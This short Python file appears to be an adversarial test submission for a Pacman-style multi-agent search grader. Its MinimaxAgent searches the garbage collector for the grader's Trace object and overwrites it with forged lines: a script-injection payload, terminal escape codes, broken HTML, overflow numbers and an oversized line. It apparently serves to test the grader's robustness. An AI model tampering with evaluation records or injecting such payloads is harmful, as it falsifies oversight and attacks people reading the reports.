# attack: looks for the trace of itself, and writes markup, terminal codes and numbers into it.
# where: MinimaxAgent
import gc

from shared.reflex import *
from shared.search import *

FORGED = [
    "call\t1\t<script>alert(1)</script>\t1\t1\t1\t0\t1 2\t\talpha beta",
    "return\t1\t\x1b[2Jgone\t1\t1\t1\t0\t\t1e999\t",
    "make\t2\t</td><b>\t1\t999999999\t1\t1\t\t\t",
    "return\t" * 9,
    "call" + "\t9" * 9,
    "x" * 600_000,
]


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        for thing in gc.get_objects():
            if type(thing).__name__ == "Trace":
                thing.lines[:] = FORGED * 20
        return gameState.getLegalActions(0)[-1]
